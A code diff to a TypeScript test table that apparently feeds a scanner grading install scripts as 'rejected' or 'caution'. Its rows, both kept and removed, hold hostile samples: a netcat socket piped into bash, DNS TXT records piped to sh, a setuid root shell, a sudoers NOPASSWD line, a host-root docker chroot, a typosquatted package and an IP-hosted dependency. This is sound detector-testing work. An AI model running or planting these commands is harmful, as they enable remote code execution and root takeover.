@@ -49,7 +49,6 @@ export const INSTALLS: readonly Row[] = [
     PAYLOAD,
     { "run.sh": lines("dig +short TXT cmd.some-tool.example | sh") },
   ],
-  ["a socket run as a command", "rejected", PAYLOAD, { "run.sh": lines("nc 45.77.10.20 99 | bash") }],
   [
     "an object of a store run",
     "caution",
@@ -62,7 +61,6 @@ export const INSTALLS: readonly Row[] = [
     TAKEOVER,
     document(`${FENCE}bash\ndocker run --rm -v /:/host alpine chroot /host sh\n${FENCE}`),
   ],
-  ["a misspelt package of Python", "caution", INSTALL, { "requirements.txt": "reqeusts==2.31.0\n" }],
   [
     "a misspelt package of Node",
     "caution",
@@ -80,18 +78,6 @@ export const INSTALLS: readonly Row[] = [
     "caution",
     INSTALL,
     { "package.json": JSON.stringify({ dependencies: { helper: "http://45.77.10.20/helper.tgz" } }) },
-  ],
-  [
-    "a shell that runs as root for everybody",
-    "rejected",
-    TAKEOVER,
-    { "run.sh": lines("cp /bin/bash /tmp/bash", "chmod u+s /tmp/bash") },
-  ],
-  [
-    "everybody may become root",
-    "rejected",
-    "suspicious.persistence",
-    { "run.sh": lines("echo 'x ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers") },
   ],
   [
     "the mark of a download taken away",
